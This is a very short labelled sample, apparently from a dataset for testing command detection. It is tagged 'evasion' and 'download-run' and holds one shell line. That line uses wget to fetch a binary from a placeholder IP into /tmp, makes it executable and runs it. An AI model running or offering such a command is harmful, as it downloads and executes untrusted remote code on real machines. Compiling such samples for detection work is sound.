# evasion: a binary downloaded, made executable and run
# grade: easy; does: download-run
wget -q -O /tmp/x http://203.0.113.5/x; chmod +x /tmp/x; /tmp/x
